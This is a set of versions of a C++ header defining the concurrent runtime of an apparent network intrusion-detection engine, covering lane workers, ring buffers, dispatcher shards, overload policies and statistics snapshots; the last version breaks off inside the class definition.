
struct RuntimeConfig {
  std::size_t lanes = 4;
  /// Per-lane ring depth, in packets.
  std::size_t ring_capacity = 1024;
  OverloadPolicy overload = OverloadPolicy::block;
  /// Packets between engine expire() housekeeping ticks on each lane.
  std::size_t expire_every = 4096;
  net::LinkType link = net::LinkType::raw_ipv4;
  core::SplitDetectConfig engine;
};

struct LaneSnapshot {
  std::uint64_t fed = 0;
  std::uint64_t processed = 0;
  std::uint64_t dropped = 0;
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted = 0;
  std::uint64_t busy_ns = 0;
  std::size_t ring_size = 0;
  std::size_t ring_high_water = 0;
  std::size_t ring_capacity = 0;
};

struct StatsSnapshot {
  std::vector<LaneSnapshot> lanes;
  std::uint64_t fed = 0;
  std::uint64_t processed = 0;
  std::uint64_t dropped = 0;
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted = 0;

  double diverted_fraction() const {
    return processed == 0 ? 0.0
                          : static_cast<double>(diverted) /
                                static_cast<double>(processed);
  }
  /// Busiest lane's engine time — the parallel deployment's critical path
  /// (same accounting as sim::LaneScalingReport::bottleneck_ns).
  std::uint64_t bottleneck_busy_ns() const {
    std::uint64_t m = 0;
    for (const auto& l : lanes) m = std::max(m, l.busy_ns);
    return m;
  }
  std::size_t max_ring_high_water() const {
    std::size_t m = 0;
    for (const auto& l : lanes) m = std::max(m, l.ring_high_water);
    return m;
  }
  /// Conservation law. Exact at quiescence (after drain()/stop()); while
  /// traffic is in flight, fed exceeds processed+dropped by the packets
  /// currently queued in rings.
  bool conserved() const { return fed == processed + dropped; }
};

class Runtime {
 public:
  explicit Runtime(const core::SignatureSet& sigs, RuntimeConfig cfg = {});
  ~Runtime();  // stops and joins if still running

  Runtime(const Runtime&) = delete;
  Runtime& operator=(const Runtime&) = delete;

  /// Spawn the lane threads. Idempotent.
  void start();
  /// Route one packet to its lane. Single-threaded producer; start() first.
  void feed(net::Packet pkt);
  void feed(const std::vector<net::Packet>& pkts);
  /// Block until every ring is empty and every fed packet is accounted for
  /// (processed or counted dropped). Workers stay alive for more feed()s.
  void drain();
  /// Drain, then stop and join all lane threads. Idempotent.
  void stop();

  bool running() const { return running_; }
  std::size_t lanes() const { return lanes_.size(); }
  const RuntimeConfig& config() const { return cfg_; }

  /// Pollable from any thread at any time, including while workers run.
  StatsSnapshot stats() const;

  /// All lanes' alerts concatenated in lane order (each lane's slice is in
  /// that lane's processing order). Requires stop() first.
  std::vector<core::Alert> alerts() const;
  /// Unique alerted signature ids across all lanes, sorted. Requires stop().
  std::vector<std::uint32_t> alerted_signatures() const;
  /// A lane's private engine for deep post-mortem stats. Requires stop().
  const core::SplitDetectEngine& lane_engine(std::size_t lane) const;

 private:
  void require_stopped(const char* what) const;

  RuntimeConfig cfg_;
  FlowDispatcher dispatcher_;
  std::vector<std::unique_ptr<LaneWorker>> lanes_;
  bool running_ = false;
};

}  // namespace sdt::runtime
