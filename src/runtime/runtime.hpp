// sdt::runtime::Runtime — the concurrent deployment shape behind the
// paper's 20 Gbps claim, as a real multi-threaded system instead of the
// sequential simulation in sim/sharding.
//
// Inline mode (dispatchers == 0, the default): the feed() caller IS the
// dispatcher —
//
//                       ┌─ SPSC ring ─► LaneWorker 0 (own engine, own alerts)
//   feed() ─ dispatcher ┼─ SPSC ring ─► LaneWorker 1
//   (parse once + hash) └─ SPSC ring ─► LaneWorker N-1
//
// Sharded mode (dispatchers == N ≥ 1): feed() only peeks the header hash
// and hands the raw frame to one of N dispatcher threads; parse, arena
// copy, and ring handoff all run there (see ingest.hpp for the full
// picture and the lane-ownership rules).
//
// Invariants (both modes):
//   * parse-once — each frame's headers are validated and indexed exactly
//     once, at the dispatching edge; the offset-based index travels through
//     the ring (ParsedPacket) and lanes rehydrate views without re-parsing.
//     Malformed frames are rejected and counted right there (`rejected`),
//     never enqueued;
//   * affinity — every packet of a flow (both directions, fragments
//     included) reaches one lane, so lane engines never share flow state
//     and multi-lane verdicts equal single-engine verdicts; non-IPv4
//     frames spread by a fallback hash and are counted per lane (non_ip).
//     Sharded mode preserves this end to end: peek_lane and the full parse
//     compute the same hash for every delivered frame;
//   * conservation — no packet is silently lost: fed == processed + dropped
//     at quiescence, and dropped > 0 only under OverloadPolicy::drop (the
//     blocking policy is lossless backpressure); rejects are counted
//     before feeding, so they sit outside that ledger by construction. In
//     sharded mode each shard additionally conserves ingested == consumed
//     (raw frames handed in == frames fully accounted for);
//   * zero-allocation steady state — lane-local PacketArenas recycle frame
//     slabs, so the hot path performs no heap allocation (audited by the
//     arena counters: heap_fallbacks == 0, borrows == recycles at
//     quiescence);
//   * right-sized state — engine flow budgets are deployment totals,
//     divided across lanes (flows are disjoint per lane), so N lanes cost
//     ~1× the single-engine table memory, not N×;
//   * observability — StatsSnapshot can be polled from any thread while
//     workers run; it reads only single-writer atomics, never locks the
//     packet path.
//
// Lifecycle: construct → start() → feed()… → drain()/stats()… → stop() →
// alerts()/lane_engine(). feed(), drain(), and stop() must be called from
// the same single feeder thread (the feeder is the single producer of every
// ingest ring, and in inline mode of every lane ring).
#pragma once

#include <cstdint>
#include <memory>
#include <span>
#include <vector>

#include "core/engine.hpp"
#include "runtime/dispatcher.hpp"
#include "runtime/ingest.hpp"
#include "runtime/lane_worker.hpp"
#include "slowpath/service.hpp"
#include "telemetry/registry.hpp"

namespace sdt::runtime {

struct RuntimeConfig {
  std::size_t lanes = 4;
  /// Per-lane ring depth, in packets.
  std::size_t ring_capacity = 1024;
  OverloadPolicy overload = OverloadPolicy::block;
  /// Packets between engine expire() housekeeping ticks on each lane.
  std::size_t expire_every = 4096;
  net::LinkType link = net::LinkType::raw_ipv4;
  /// Ingest shards. 0 (default) = inline mode: the feed() caller parses and
  /// dispatches itself — lowest latency, one-core ingest. N >= 1 spawns N
  /// dispatcher threads; shard d owns lanes {l : l % N == d} and feed()
  /// only computes the header-peek hash before handing the frame over.
  /// Clamped to `lanes` (more shards than lanes would just idle).
  std::size_t dispatchers = 0;
  /// Packets staged per lane before a batch flush into its ring (one SPSC
  /// acquire/release per batch). Also the lane-side pop batch width.
  std::size_t dispatch_batch = 32;
  /// Raw-frame ring depth between feed() and each dispatcher shard.
  std::size_t ingest_capacity = 4096;
  /// Sharded mode: a staged packet is never held longer than this waiting
  /// for its batch to fill — on timeout (or an empty ingest ring) the shard
  /// flushes everything, so batching cannot add unbounded latency under
  /// trickle load.
  std::uint64_t flush_timeout_us = 200;
  /// Per-lane arena slab size: frames up to this many bytes travel through
  /// recycled slabs (zero-allocation); bigger frames take a counted heap
  /// fallback. 2048 covers standard-MTU ethernet frames.
  std::size_t arena_slab_bytes = 2048;
  /// Arena slots per lane. 0 = auto: ring_capacity + 2 * dispatch_batch +
  /// slack, so a full ring plus in-flight batches never exhausts the pool.
  std::size_t arena_slots = 0;
  /// Poison recycled slabs (0xDD) — debug aid, see PacketArena::Config.
  bool arena_poison = false;
  /// Engine configuration. Its flow budgets (`fast.max_flows`,
  /// `slow_max_flows`) are *deployment-wide totals*: lanes own disjoint
  /// flow sets (address-pair affinity), so the runtime provisions each
  /// lane's tables at total/lanes (floored at `lane_flow_floor`) instead
  /// of paying lanes × full-size memory. Set `split_flow_budget = false`
  /// to restore full-size tables on every lane.
  core::SplitDetectConfig engine;
  bool split_flow_budget = true;
  /// Smallest per-lane table budget the division may produce (guards
  /// degenerate many-lane/small-total configurations). Never raises a
  /// lane's budget above the configured total.
  std::size_t lane_flow_floor = 1 << 12;
  /// Decoupled slow path: when true, the runtime builds ONE shared
  /// slowpath::SlowPathService and installs it as every lane engine's
  /// DivertSink. Lanes then hand diverted datagrams across the bounded
  /// queue boundary and return to their hot loop; reassembly happens on
  /// the service's workers under fair admission, and saturation degrades
  /// into explicit shed-with-alert instead of lane stalls.
  bool external_slowpath = false;
  /// Service shape (workers, queue bounds, admission budgets). Its `ips`
  /// field is IGNORED: the runtime always derives it from `engine` so the
  /// external slow path is verdict-identical to the synchronous one.
  slowpath::SlowPathConfig slowpath;
};

struct LaneSnapshot {
  std::uint64_t fed = 0;
  std::uint64_t processed = 0;
  std::uint64_t dropped = 0;
  std::uint64_t non_ip = 0;  // fed frames without an IPv4 layer
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted = 0;
  std::uint64_t busy_ns = 0;
  std::uint64_t adoptions = 0;        // rule-set versions this lane adopted
  std::uint64_t adopted_version = 0;  // version the lane runs right now
  std::size_t ring_size = 0;
  std::size_t ring_high_water = 0;
  std::size_t ring_capacity = 0;
  /// This lane's fast-path flow-table budget (static config — shows the
  /// per-lane share of the deployment-wide total).
  std::size_t fast_max_flows = 0;
  /// This lane's frame-slab pool: borrows/recycles/exhausted/heap_fallbacks
  /// and occupancy high-water. At quiescence borrows == recycles and
  /// heap_fallbacks == 0 together prove the hot path allocated nothing.
  PacketArenaStats arena;
  /// Per-packet engine latency distribution (log2 buckets; p50/p99 etc.).
  telemetry::HistogramSnapshot latency_ns;
  /// Frame-size distribution of the packets this lane processed.
  telemetry::HistogramSnapshot frame_bytes;
};

/// Why frames were refused at the dispatcher edge, one counter per
/// reject-class net::ParseStatus. Sums to the dispatcher's `rejected`.
struct RejectBreakdown {
  std::uint64_t truncated_l2 = 0;
  std::uint64_t truncated_l3 = 0;
  std::uint64_t bad_ip_header = 0;
  std::uint64_t bad_ext_header = 0;  // IPv6 extension chain lies
  std::uint64_t bad_decap = 0;       // malformed VXLAN/GRE or lying inner frame
  std::uint64_t truncated_l4 = 0;

  std::uint64_t total() const {
    return truncated_l2 + truncated_l3 + bad_ip_header + bad_ext_header +
           bad_decap + truncated_l4;
  }
  RejectBreakdown& operator+=(const RejectBreakdown& o) {
    truncated_l2 += o.truncated_l2;
    truncated_l3 += o.truncated_l3;
    bad_ip_header += o.bad_ip_header;
    bad_ext_header += o.bad_ext_header;
    bad_decap += o.bad_decap;
    truncated_l4 += o.truncated_l4;
    return *this;
  }
};

/// Encapsulation dimensions of delivered frames (dimensions, not a
/// partition: a VLAN-tagged IPv6 frame counts in both ipv6 and vlan).
struct EncapBreakdown {
  std::uint64_t ipv6 = 0;      // inner header was IPv6
  std::uint64_t vlan = 0;      // at least one 802.1Q tag stripped
  std::uint64_t tunneled = 0;  // delivered after VXLAN/GRE decap
  EncapBreakdown& operator+=(const EncapBreakdown& o) {
    ipv6 += o.ipv6;
    vlan += o.vlan;
    tunneled += o.tunneled;
    return *this;
  }
};

/// Wire-side (capture/inline) drop reasons, mirrored into StatsSnapshot
/// the same way `rejected_by` mirrors the dispatcher's parse rejects — so
/// one snapshot answers "where did packets go" for the whole box, not just
/// the engine half. All zero unless a wire front-end is attached.
struct WireDropBreakdown {
  std::uint64_t kernel_ring = 0;     ///< capture backend/kernel ring drops
  std::uint64_t budget_expired = 0;  ///< held past the verdict latency budget
  std::uint64_t hold_overflow = 0;   ///< inline hold buffer full at submit
  std::uint64_t overload_shed = 0;   ///< runtime shed before any verdict

  std::uint64_t total() const {
    return kernel_ring + budget_expired + hold_overflow + overload_shed;
  }
  WireDropBreakdown& operator+=(const WireDropBreakdown& o) {
    kernel_ring += o.kernel_ring;
    budget_expired += o.budget_expired;
    hold_overflow += o.hold_overflow;
    overload_shed += o.overload_shed;
    return *this;
  }
};

/// Anything that can report wire-side drops into StatsSnapshot (the wire
/// router implements this; the runtime only reads it). Must be safe to
/// call from any thread at any time.
class WireStatsSource {
 public:
  virtual ~WireStatsSource() = default;
  virtual WireDropBreakdown wire_drops() const = 0;
};

/// One ingest shard's live counters + ring state (sharded mode only).
struct DispatcherSnapshot {
  std::uint64_t ingested = 0;
  std::uint64_t consumed = 0;
  std::uint64_t rejected = 0;
  std::uint64_t flushes = 0;
  std::uint64_t flush_timeouts = 0;
  std::uint64_t busy_ns = 0;
  std::size_t ring_size = 0;
  std::size_t ring_high_water = 0;
  std::size_t ring_capacity = 0;
  RejectBreakdown rejected_by;
  EncapBreakdown delivered;
};

struct StatsSnapshot {
  std::vector<LaneSnapshot> lanes;
  /// One entry per ingest shard; empty in inline mode.
  std::vector<DispatcherSnapshot> dispatchers;
  std::uint64_t fed = 0;
  std::uint64_t processed = 0;
  std::uint64_t dropped = 0;
  /// Malformed frames refused at the dispatcher (never fed to any lane).
  std::uint64_t rejected = 0;
  /// `rejected` split by parse status (truncation, bad header, bad decap…).
  RejectBreakdown rejected_by;
  /// Delivered-frame encapsulation dimensions, summed over dispatchers
  /// (inline mode included).
  EncapBreakdown delivered;
  std::uint64_t non_ip = 0;
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted = 0;
  std::uint64_t adoptions = 0;  // sum of per-lane adoptions
  /// External slow-path totals (all zero unless external_slowpath is on).
  slowpath::SlowPathStats slowpath;
  bool has_external_slowpath = false;
  /// Wire-side capture/inline drop reasons (attach_wire_stats); all zero
  /// without a wire front-end.
  WireDropBreakdown wire;
  bool has_wire = false;

  /// Lowest rule-set version any lane currently runs (the deployment's
  /// grace horizon as seen from the lanes themselves).
  std::uint64_t min_adopted_version() const {
    std::uint64_t m = UINT64_MAX;
    for (const auto& l : lanes) m = std::min(m, l.adopted_version);
    return lanes.empty() ? 0 : m;
  }

  double diverted_fraction() const {
    return processed == 0 ? 0.0
                          : static_cast<double>(diverted) /
                                static_cast<double>(processed);
  }
  /// Busiest lane's engine time — the parallel deployment's critical path
  /// (same accounting as sim::LaneScalingReport::bottleneck_ns).
  std::uint64_t bottleneck_busy_ns() const {
    std::uint64_t m = 0;
    for (const auto& l : lanes) m = std::max(m, l.busy_ns);
    return m;
  }
  std::size_t max_ring_high_water() const {
    std::size_t m = 0;
    for (const auto& l : lanes) m = std::max(m, l.ring_high_water);
    return m;
  }
  /// Slab borrows summed over lanes — the number of frames that travelled
  /// the zero-allocation path.
  std::uint64_t arena_borrows() const {
    std::uint64_t n = 0;
    for (const auto& l : lanes) n += l.arena.borrows;
    return n;
  }
  /// Frames that were too big for an arena slab, summed over lanes. Zero
  /// across a whole run proves the packet path never heap-allocated.
  std::uint64_t arena_heap_fallbacks() const {
    std::uint64_t n = 0;
    for (const auto& l : lanes) n += l.arena.heap_fallbacks;
    return n;
  }
  /// Arena slots still outstanding, summed over lanes. Exact (and zero for
  /// lossless runs) at quiescence; drop-policy sheds may legitimately leave
  /// slots parked in dispatcher spare caches.
  std::uint64_t arena_outstanding() const {
    std::uint64_t n = 0;
    for (const auto& l : lanes) n += l.arena.outstanding();
    return n;
  }
  /// Conservation law. Exact at quiescence (after drain()/stop()); while
  /// traffic is in flight, fed exceeds processed+dropped by the packets
  /// currently queued in rings.
  bool conserved() const { return fed == processed + dropped; }

  /// Deployment-wide per-packet engine latency: the lanes' log2 histograms
  /// merged bucket-wise (lossless — buckets line up), so p50/p99 describe
  /// every processed packet regardless of which lane ran it.
  telemetry::HistogramSnapshot latency_ns() const {
    telemetry::HistogramSnapshot m;
    for (const auto& l : lanes) m.merge(l.latency_ns);
    return m;
  }
  /// Deployment-wide frame-size distribution, same merge.
  telemetry::HistogramSnapshot frame_bytes() const {
    telemetry::HistogramSnapshot m;
    for (const auto& l : lanes) m.merge(l.frame_bytes);
    return m;
  }
};

class Runtime {
 public:
  /// Compile-on-construct convenience: builds ONE version-0 artifact from
  /// `sigs` and shares it across every lane (the artifact is immutable, so
  /// N lanes cost 1× automaton memory, not N×).
  explicit Runtime(const core::SignatureSet& sigs, RuntimeConfig cfg = {});
  /// Hot-reload shape: all lanes start on this artifact.
  explicit Runtime(core::RuleSetHandle rules, RuntimeConfig cfg = {});
  ~Runtime();  // stops and joins if still running

  Runtime(const Runtime&) = delete;
  Runtime& operator=(const Runtime&) = delete;

  /// Wire every lane to `registry` for hot reloads. Call before start();
  /// each lane gets a registry slot (RuleSetRegistry::subscribe) and will
  /// adopt newly published versions at packet boundaries. The registry
  /// must outlive this runtime.
  void attach_registry(control::RuleSetRegistry& registry);

  /// Install the inline-verdict feedback on every dispatching core and
  /// every lane (see verdict_feedback.hpp for the exactly-once and
  /// ordering contract). Call before start(); `fb` must outlive the
  /// worker threads. Ticketless packets never trigger a callback.
  void set_verdict_feedback(VerdictFeedback* fb);

  /// Let stats() mirror wire-side drop reasons (StatsSnapshot::wire).
  /// `src` must outlive every stats() call; null detaches.
  void attach_wire_stats(const WireStatsSource* src) { wire_stats_ = src; }

  /// Spawn the lane threads (and dispatcher shards, in sharded mode).
  /// Idempotent.
  void start();
  /// Route one packet toward its lane: inline mode parses/classifies right
  /// here; sharded mode peeks the header hash and hands the raw frame to
  /// the owning shard. Single feeder thread; start() first. When feed()
  /// returns, inline mode guarantees the packet is in its lane ring (or
  /// rejected/dropped); sharded mode guarantees it is in its shard's
  /// ingest ring.
  void feed(net::Packet pkt);
  /// Batch feeds. The span/const-ref forms copy each frame; the rvalue form
  /// moves them — use it when the caller is done with the batch (the hot
  /// path then never deep-copies a payload). In sharded mode batches are
  /// additionally staged per shard and handed over in ring-batch pushes.
  void feed(std::span<const net::Packet> pkts);
  void feed(const std::vector<net::Packet>& pkts);
  void feed(std::vector<net::Packet>&& pkts);
  /// Inline-verdict hot path: route one frame the caller KEEPS. In inline-
  /// dispatch mode (dispatchers == 0) the bytes are copied straight into
  /// the lane arena before this returns — one copy total, and the caller's
  /// buffer is free for reuse (the wire router holds it for egress). In
  /// sharded mode the frame must cross the ingest ring, so a deep copy is
  /// taken here first. Same feeder-thread contract as feed().
  void feed_borrowed(const net::Packet& pkt);
  /// Block until every fed packet is accounted for (processed or counted
  /// dropped) — in sharded mode, first until every shard consumed its
  /// ingest backlog. Workers stay alive for more feed()s. Feeder thread
  /// only (it treats its own feed counts as final).
  void drain();
  /// Drain, then stop and join dispatcher shards, lane threads, and the
  /// slow path, in that order. Idempotent.
  void stop();

  bool running() const { return running_; }
  std::size_t lanes() const { return lanes_.size(); }
  /// Ingest shards actually running (after the clamp to `lanes`); 0 in
  /// inline mode.
  std::size_t dispatchers() const { return shards_.size(); }
  const RuntimeConfig& config() const { return cfg_; }
  /// The engine configuration each lane actually runs — the caller's
  /// `cfg.engine` with flow budgets divided per lane (see RuntimeConfig).
  const core::SplitDetectConfig& lane_engine_config() const {
    return lane_cfg_;
  }

  /// Pollable from any thread at any time, including while workers run.
  StatsSnapshot stats() const;

  /// Register every runtime metric into `reg` under `<prefix>.…` (see
  /// docs/OBSERVABILITY.md for the full name/unit contract): the
  /// dispatcher's `rejected`, each lane's counters and latency/frame-size
  /// histograms (all live-safe), ring gauges, and — as quiescent-only
  /// gauges — each lane engine's deep stats. The runtime must outlive the
  /// registry polls; call `reg.remove_prefix(prefix)` before destroying
  /// this runtime if the registry lives longer.
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "runtime") const;

  /// All lanes' alerts concatenated in lane order (each lane's slice is in
  /// that lane's processing order). Requires stop() first.
  std::vector<core::Alert> alerts() const;
  /// Unique alerted signature ids across all lanes, sorted. Requires stop().
  std::vector<std::uint32_t> alerted_signatures() const;
  /// A lane's private engine for deep post-mortem stats. Requires stop().
  const core::SplitDetectEngine& lane_engine(std::size_t lane) const;
  /// The shared external slow path, when enabled (nullptr otherwise).
  const slowpath::SlowPathService* slow_path() const {
    return slowpath_.get();
  }

 private:
  void require_stopped(const char* what) const;
  void build_lanes(const core::RuleSetHandle& rules);
  void build_dispatch();
  /// Sharded-mode handoff: blocking push into shard `s`'s ingest ring
  /// (ingest rings are always lossless; the overload policy applies at the
  /// lane rings, on the shard thread).
  void push_to_shard(std::size_t s, net::Packet&& pkt);
  /// Sharded-mode batch handoff: stage per shard, flush in ring batches.
  void stage_to_shard(std::size_t s, net::Packet&& pkt);
  void flush_ingest_stages();

  RuntimeConfig cfg_;
  core::SplitDetectConfig lane_cfg_;
  FlowDispatcher dispatcher_;
  std::vector<std::unique_ptr<LaneWorker>> lanes_;
  /// Inline mode: the feed() caller's dispatching engine (owns all lanes).
  /// Null in sharded mode.
  std::unique_ptr<DispatchCore> inline_core_;
  /// Sharded mode: one ingest shard per dispatcher thread. Empty inline.
  std::vector<std::unique_ptr<DispatcherShard>> shards_;
  /// Feeder-thread-only per-shard staging for batch feeds (always empty
  /// between public calls).
  std::vector<std::vector<net::Packet>> ingest_stage_;
  /// Shared external slow path (built only when cfg.external_slowpath).
  std::unique_ptr<slowpath::SlowPathService> slowpath_;
  /// Wire-side drop mirror for stats() (non-owning, may be null).
  const WireStatsSource* wire_stats_ = nullptr;
  bool running_ = false;
};

}  // namespace sdt::runtime
