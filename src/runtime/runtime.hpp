// sdt::runtime::Runtime — the concurrent deployment shape behind the
// paper's 20 Gbps claim, as a real multi-threaded system instead of the
// sequential simulation in sim/sharding.
//
//                       ┌─ SPSC ring ─► LaneWorker 0 (own engine, own alerts)
//   feed() ─ dispatcher ┼─ SPSC ring ─► LaneWorker 1
//   (parse once + hash) └─ SPSC ring ─► LaneWorker N-1
//
// Invariants:
//   * parse-once — each frame's headers are validated and indexed exactly
//     once, at the dispatcher; the offset-based index travels through the
//     ring (ParsedPacket) and lanes rehydrate views without re-parsing.
//     Malformed frames are rejected and counted right there (`rejected`),
//     never enqueued;
//   * affinity — every packet of a flow (both directions, fragments
//     included) reaches one lane, so lane engines never share flow state
//     and multi-lane verdicts equal single-engine verdicts; non-IPv4
//     frames spread by a fallback hash and are counted per lane (non_ip);
//   * conservation — no packet is silently lost: fed == processed + dropped
//     at quiescence, and dropped > 0 only under OverloadPolicy::drop (the
//     blocking policy is lossless backpressure); rejects are counted
//     before feeding, so they sit outside that ledger by construction;
//   * right-sized state — engine flow budgets are deployment totals,
//     divided across lanes (flows are disjoint per lane), so N lanes cost
//     ~1× the single-engine table memory, not N×;
//   * observability — StatsSnapshot can be polled from any thread while
//     workers run; it reads only single-writer atomics, never locks the
//     packet path.
//
// Lifecycle: construct → start() → feed()… → drain()/stats()… → stop() →
// alerts()/lane_engine(). feed() must be called from one thread at a time
// (the dispatcher is the single producer of every ring).
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <span>
#include <vector>

#include "core/engine.hpp"
#include "runtime/dispatcher.hpp"
#include "runtime/lane_worker.hpp"
#include "slowpath/service.hpp"
#include "telemetry/registry.hpp"

namespace sdt::runtime {

/// What feed() does when a lane's ring is full.
enum class OverloadPolicy : std::uint8_t {
  /// Wait for the lane to catch up — lossless backpressure (default).
  block,
  /// Shed the packet and count it against the lane — graceful degradation,
  /// never silent: every drop is visible in the stats.
  drop,
};

struct RuntimeConfig {
  std::size_t lanes = 4;
  /// Per-lane ring depth, in packets.
  std::size_t ring_capacity = 1024;
  OverloadPolicy overload = OverloadPolicy::block;
  /// Packets between engine expire() housekeeping ticks on each lane.
  std::size_t expire_every = 4096;
  net::LinkType link = net::LinkType::raw_ipv4;
  /// Engine configuration. Its flow budgets (`fast.max_flows`,
  /// `slow_max_flows`) are *deployment-wide totals*: lanes own disjoint
  /// flow sets (address-pair affinity), so the runtime provisions each
  /// lane's tables at total/lanes (floored at `lane_flow_floor`) instead
  /// of paying lanes × full-size memory. Set `split_flow_budget = false`
  /// to restore full-size tables on every lane.
  core::SplitDetectConfig engine;
  bool split_flow_budget = true;
  /// Smallest per-lane table budget the division may produce (guards
  /// degenerate many-lane/small-total configurations). Never raises a
  /// lane's budget above the configured total.
  std::size_t lane_flow_floor = 1 << 12;
  /// Decoupled slow path: when true, the runtime builds ONE shared
  /// slowpath::SlowPathService and installs it as every lane engine's
  /// DivertSink. Lanes then hand diverted datagrams across the bounded
  /// queue boundary and return to their hot loop; reassembly happens on
  /// the service's workers under fair admission, and saturation degrades
  /// into explicit shed-with-alert instead of lane stalls.
  bool external_slowpath = false;
  /// Service shape (workers, queue bounds, admission budgets). Its `ips`
  /// field is IGNORED: the runtime always derives it from `engine` so the
  /// external slow path is verdict-identical to the synchronous one.
  slowpath::SlowPathConfig slowpath;
};

struct LaneSnapshot {
  std::uint64_t fed = 0;
  std::uint64_t processed = 0;
  std::uint64_t dropped = 0;
  std::uint64_t non_ip = 0;  // fed frames without an IPv4 layer
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted = 0;
  std::uint64_t busy_ns = 0;
  std::uint64_t adoptions = 0;        // rule-set versions this lane adopted
  std::uint64_t adopted_version = 0;  // version the lane runs right now
  std::size_t ring_size = 0;
  std::size_t ring_high_water = 0;
  std::size_t ring_capacity = 0;
  /// This lane's fast-path flow-table budget (static config — shows the
  /// per-lane share of the deployment-wide total).
  std::size_t fast_max_flows = 0;
  /// Per-packet engine latency distribution (log2 buckets; p50/p99 etc.).
  telemetry::HistogramSnapshot latency_ns;
  /// Frame-size distribution of the packets this lane processed.
  telemetry::HistogramSnapshot frame_bytes;
};

struct StatsSnapshot {
  std::vector<LaneSnapshot> lanes;
  std::uint64_t fed = 0;
  std::uint64_t processed = 0;
  std::uint64_t dropped = 0;
  /// Malformed frames refused at the dispatcher (never fed to any lane).
  std::uint64_t rejected = 0;
  std::uint64_t non_ip = 0;
  std::uint64_t bytes = 0;
  std::uint64_t alerts = 0;
  std::uint64_t diverted = 0;
  std::uint64_t adoptions = 0;  // sum of per-lane adoptions
  /// External slow-path totals (all zero unless external_slowpath is on).
  slowpath::SlowPathStats slowpath;
  bool has_external_slowpath = false;

  /// Lowest rule-set version any lane currently runs (the deployment's
  /// grace horizon as seen from the lanes themselves).
  std::uint64_t min_adopted_version() const {
    std::uint64_t m = UINT64_MAX;
    for (const auto& l : lanes) m = std::min(m, l.adopted_version);
    return lanes.empty() ? 0 : m;
  }

  double diverted_fraction() const {
    return processed == 0 ? 0.0
                          : static_cast<double>(diverted) /
                                static_cast<double>(processed);
  }
  /// Busiest lane's engine time — the parallel deployment's critical path
  /// (same accounting as sim::LaneScalingReport::bottleneck_ns).
  std::uint64_t bottleneck_busy_ns() const {
    std::uint64_t m = 0;
    for (const auto& l : lanes) m = std::max(m, l.busy_ns);
    return m;
  }
  std::size_t max_ring_high_water() const {
    std::size_t m = 0;
    for (const auto& l : lanes) m = std::max(m, l.ring_high_water);
    return m;
  }
  /// Conservation law. Exact at quiescence (after drain()/stop()); while
  /// traffic is in flight, fed exceeds processed+dropped by the packets
  /// currently queued in rings.
  bool conserved() const { return fed == processed + dropped; }

  /// Deployment-wide per-packet engine latency: the lanes' log2 histograms
  /// merged bucket-wise (lossless — buckets line up), so p50/p99 describe
  /// every processed packet regardless of which lane ran it.
  telemetry::HistogramSnapshot latency_ns() const {
    telemetry::HistogramSnapshot m;
    for (const auto& l : lanes) m.merge(l.latency_ns);
    return m;
  }
  /// Deployment-wide frame-size distribution, same merge.
  telemetry::HistogramSnapshot frame_bytes() const {
    telemetry::HistogramSnapshot m;
    for (const auto& l : lanes) m.merge(l.frame_bytes);
    return m;
  }
};

class Runtime {
 public:
  /// Compile-on-construct convenience: builds ONE version-0 artifact from
  /// `sigs` and shares it across every lane (the artifact is immutable, so
  /// N lanes cost 1× automaton memory, not N×).
  explicit Runtime(const core::SignatureSet& sigs, RuntimeConfig cfg = {});
  /// Hot-reload shape: all lanes start on this artifact.
  explicit Runtime(core::RuleSetHandle rules, RuntimeConfig cfg = {});
  ~Runtime();  // stops and joins if still running

  Runtime(const Runtime&) = delete;
  Runtime& operator=(const Runtime&) = delete;

  /// Wire every lane to `registry` for hot reloads. Call before start();
  /// each lane gets a registry slot (RuleSetRegistry::subscribe) and will
  /// adopt newly published versions at packet boundaries. The registry
  /// must outlive this runtime.
  void attach_registry(control::RuleSetRegistry& registry);

  /// Spawn the lane threads. Idempotent.
  void start();
  /// Parse, classify, and route one packet to its lane (or reject it as
  /// malformed). Single-threaded producer; start() first.
  void feed(net::Packet pkt);
  /// Batch feeds. The span/const-ref forms copy each frame; the rvalue form
  /// moves them — use it when the caller is done with the batch (the hot
  /// path then never deep-copies a payload).
  void feed(std::span<const net::Packet> pkts);
  void feed(const std::vector<net::Packet>& pkts);
  void feed(std::vector<net::Packet>&& pkts);
  /// Block until every ring is empty and every fed packet is accounted for
  /// (processed or counted dropped). Workers stay alive for more feed()s.
  void drain();
  /// Drain, then stop and join all lane threads. Idempotent.
  void stop();

  bool running() const { return running_; }
  std::size_t lanes() const { return lanes_.size(); }
  const RuntimeConfig& config() const { return cfg_; }
  /// The engine configuration each lane actually runs — the caller's
  /// `cfg.engine` with flow budgets divided per lane (see RuntimeConfig).
  const core::SplitDetectConfig& lane_engine_config() const {
    return lane_cfg_;
  }

  /// Pollable from any thread at any time, including while workers run.
  StatsSnapshot stats() const;

  /// Register every runtime metric into `reg` under `<prefix>.…` (see
  /// docs/OBSERVABILITY.md for the full name/unit contract): the
  /// dispatcher's `rejected`, each lane's counters and latency/frame-size
  /// histograms (all live-safe), ring gauges, and — as quiescent-only
  /// gauges — each lane engine's deep stats. The runtime must outlive the
  /// registry polls; call `reg.remove_prefix(prefix)` before destroying
  /// this runtime if the registry lives longer.
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "runtime") const;

  /// All lanes' alerts concatenated in lane order (each lane's slice is in
  /// that lane's processing order). Requires stop() first.
  std::vector<core::Alert> alerts() const;
  /// Unique alerted signature ids across all lanes, sorted. Requires stop().
  std::vector<std::uint32_t> alerted_signatures() const;
  /// A lane's private engine for deep post-mortem stats. Requires stop().
  const core::SplitDetectEngine& lane_engine(std::size_t lane) const;
  /// The shared external slow path, when enabled (nullptr otherwise).
  const slowpath::SlowPathService* slow_path() const {
    return slowpath_.get();
  }

 private:
  void require_stopped(const char* what) const;
  void build_lanes(const core::RuleSetHandle& rules);

  RuntimeConfig cfg_;
  core::SplitDetectConfig lane_cfg_;
  FlowDispatcher dispatcher_;
  std::vector<std::unique_ptr<LaneWorker>> lanes_;
